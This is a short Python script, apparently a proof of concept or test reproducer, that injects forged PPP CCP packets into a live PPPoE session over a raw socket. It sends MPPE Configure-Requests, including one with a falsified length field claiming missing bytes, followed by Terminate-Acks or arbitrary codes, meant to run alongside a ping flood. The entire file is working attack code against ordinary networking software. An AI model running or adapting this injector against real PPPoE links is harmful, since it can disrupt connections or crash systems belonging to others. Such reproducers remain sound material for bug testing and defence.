#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Throws CCP packets into a PPPoE session, as its peer or whoever sits on the wire could.

usage: ccp_attack.py INTERFACE MAC SESSION-ID ROUNDS [CODE]; each round is a Configure-Request, one cut off, and a
Terminate-Ack, or the one packet with CODE.
"""

import socket
import struct
import sys
import time

ETHERTYPE = 0x8864
CCP = 0x80fd
MPPE128 = bytes([18, 6, 1, 0, 0, 0x40])


def packet(code: int, number: int, data: bytes = b"", missing: int = 0) -> bytes:
    return struct.pack("!HBBH", CCP, code, number, 4 + len(data) + missing) + data


def main() -> None:
    interface, mac, session, rounds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, ETHERTYPE))
    ethernet = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + struct.pack("!H", ETHERTYPE)
    for number in range(rounds):
        attack = [packet(1, 128 + number, MPPE128), packet(1, number, MPPE128, 60), packet(6, number)]
        if len(sys.argv) > 5:
            attack = [packet(int(sys.argv[5]), number)]
        for ppp in attack:
            wire.send(ethernet + struct.pack("!BBHH", 0x11, 0, session, len(ppp)) + ppp)
            # A pace of the attacker's own, not a wait for anything: the flood of pings goes on meanwhile.
            time.sleep(0.03)


if __name__ == "__main__":
    main()
